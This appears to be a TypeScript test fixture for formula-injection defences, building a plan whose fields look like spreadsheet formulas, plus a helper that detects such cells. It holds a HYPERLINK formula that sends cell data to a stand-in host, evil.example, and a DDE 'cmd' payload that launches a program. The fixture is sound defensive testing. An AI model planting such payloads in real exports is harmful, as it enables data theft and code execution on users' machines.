// A plan whose every text field an analyst or a reporting unit can fill in looks
// like a spreadsheet formula: for the CSV formula-injection and xlsx tests.
import { parsePlan, type Plan } from '../../src/index.js';

/** The title of the example: a formula that would send a neighbouring cell to another site. */
export const HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

/** The plan: titles, measures, units, owners, leaders, flags, notes, reasons, milestones, categories and x- keys that look like formulas. */
export function formulaPlan(): Plan {
  return parsePlan({
    formatVersion: 1,
    id: 'formula-2018',
    title: '=1+1',
    issuer: '@市政府',
    period: { start: '2018-01-01', end: '2018-12-31' },
    asOf: '2018-06-30',
    categories: [{ id: 'A', title: '+经济发展', 'x-note': '=A1' }],
    'x-source': '-2+3',
    tasks: [
      {
        id: 'T1',
        category: 'A',
        title: HYPERLINK_TITLE,
        owners: { lead: ['=市发改委'], support: ['+市财政局', '@市统计局'] },
        leader: '-张三',
        flags: ['=problem'],
        target: { kind: 'cumulative', measure: '=SUM(A1:A9)', unit: '亿元', value: '200' },
        observations: [{ asOf: '2018-06-30', value: '55', note: '\t=备注' }],
        'x-note': "'=already quoted",
      },
      {
        id: 'T2',
        category: 'A',
        title: '-5个百分点',
        target: { kind: 'rate', measure: '@增速', unit: '%', value: '-0.5', bound: 'atLeast' },
        observations: [{ asOf: '2018-06-30', value: '-0.8' }],
      },
      {
        id: 'T3',
        title: "\r=cmd|' /C calc'!A0",
        target: {
          kind: 'milestones',
          milestones: [
            { title: '=节点一', due: '2018-03-31', done: '2018-03-20' },
            { title: "''+节点二", due: '2018-09-30', done: null },
          ],
        },
      },
      {
        id: 'T4',
        title: "'普通的撇号",
        target: { kind: 'binary', completedOn: null },
        deadline: '2018-12-31',
        cancelled: { on: '2018-05-01', reason: '+因政策调整' },
      },
      {
        id: '-7',
        title: '-7',
        target: { kind: 'level', measure: '企业数', unit: '家', value: '220', baseline: '-160' },
        observations: [{ asOf: '2018-06-30', value: '-5', unit: '家' }],
      },
    ],
  });
}

/** Whether a cell would start a formula in a spreadsheet: it starts with = + - @, a tab or a carriage return and is not a plain number. */
export const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
